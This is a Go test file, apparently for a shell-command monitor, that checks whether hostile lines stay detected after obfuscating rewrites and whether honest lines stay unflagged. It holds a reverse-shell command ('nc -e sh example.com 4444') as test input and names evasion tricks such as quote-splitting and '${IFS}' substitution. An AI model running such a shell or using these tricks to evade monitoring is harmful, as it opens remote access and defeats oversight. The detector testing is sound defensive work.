package score

import (
	"hash/crc32"
	"testing"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/detect"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/mutate"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/replay"
	"github.com/code-on-incus/coi/pkg/coi"
)

// unknowable is the mutation whose lines do not tell what runs: the program was
// renamed before, somewhere else. Live, its content tells.
const unknowable = "renamed before"

// mutable are the lines that the mutations are tried on: the held-out lines, a part of the
// catalogue, and of the samples of all detectors. Honest ones have no Expect.
func mutable(t *testing.T) []replay.Row {
	t.Helper()
	out := append(rows(t, "hostile.txt"), rows(t, "honest.txt")...)
	for _, r := range catalogue(t) {
		if chosen(r.Cmd, 24) {
			out = append(out, r)
		}
	}
	for _, d := range detect.All {
		for _, s := range d.Fire {
			if s.Line != "" && s.Level.Rank() >= coi.High.Rank() && chosen(s.Line, 4) {
				out = append(out, replay.Row{Cmd: s.Line, Expect: "must", Category: d.ID})
			}
		}
		for _, s := range d.Quiet {
			if s.Line != "" && s.Level == "" && chosen(s.Line, 4) {
				out = append(out, replay.Row{Cmd: s.Line})
			}
		}
	}
	for _, w := range detect.Everyday {
		for _, s := range w.Samples() {
			out = append(out, replay.Row{Cmd: s.Line})
		}
	}
	return out
}

// chosen is one line in n, the same at every run.
func chosen(line string, n uint32) bool { return crc32.ChecksumIEEE([]byte(line))%n == 0 }

// found is the set of lines that reach high as they are: a mutation must not
// lose them, and cannot be blamed for honest ones that do.
func found(list []replay.Row) []replay.Row {
	var out []replay.Row
	for _, r := range list {
		high := replay.Line(r, config()).Level.Rank() >= coi.High.Rank()
		if high == (r.Expect == "must") {
			out = append(out, r)
		}
	}
	return out
}

// TestMutations: at least 90 % of the hostile lines that are found stay found
// when they are written differently, and of the honest ones no more than two in a
// hundred pause for it: those that hide what they do with a key (R-MON-05).
func TestMutations(t *testing.T) {
	list := found(mutable(t))
	for _, m := range mutate.All() {
		t.Run(m.Name, func(t *testing.T) {
			t.Parallel()
			r := mutated(list, m, func(r replay.Row) replay.Verdict { return replay.Line(r, config()) })
			bar := MustMutated
			if m.Name == unknowable {
				bar = 0.80
			}
			if r.Rows < 50 || r.Must < bar {
				t.Errorf("%.3f of %d lines found; bar %.2f: %q", r.Must, r.Rows, bar, r.Missed)
			}
			if r.Pause > 0.02 {
				t.Errorf("%.3f of the honest lines pause: %q", r.Pause, r.Alarms)
			}
		})
	}
}

// TestMutationsChange: each mutation gives another line that bash can read, for
// a line that all of them apply to.
func TestMutationsChange(t *testing.T) {
	const line = "nc -e sh example.com 4444"
	seen := map[string]string{}
	for _, m := range mutate.All() {
		got := m.Do(line)
		if got == "" || got == line || !mutate.Parses(got) {
			t.Errorf("%s: %q", m.Name, got)
		}
		if other := seen[got]; other != "" {
			t.Errorf("%s and %s are the same", m.Name, other)
		}
		seen[got] = m.Name
	}
	if len(seen) < 50 {
		t.Errorf("%d mutations; want 50", len(seen))
	}
}

// TestMutatedHonest: changes that hide nothing pause nobody.
func TestMutatedHonest(t *testing.T) {
	harmless := map[string]bool{"here-document, sh FILE": true, "here-document, ./FILE": true, "bash -c": true, "a=n;b=c;$a$b": true, "n''c": true, `"n"c`: true, "${IFS}": true}
	list := rows(t, "honest.txt")
	for _, m := range mutate.All() {
		if !harmless[m.Name] {
			continue
		}
		delete(harmless, m.Name)
		r := mutated(list, m, func(r replay.Row) replay.Verdict { return replay.Line(r, config()) })
		if len(r.Alarms) > 0 {
			t.Errorf("%s: %q pause", m.Name, r.Alarms)
		}
	}
	if len(harmless) > 0 {
		t.Errorf("no such mutations: %v", harmless)
	}
}
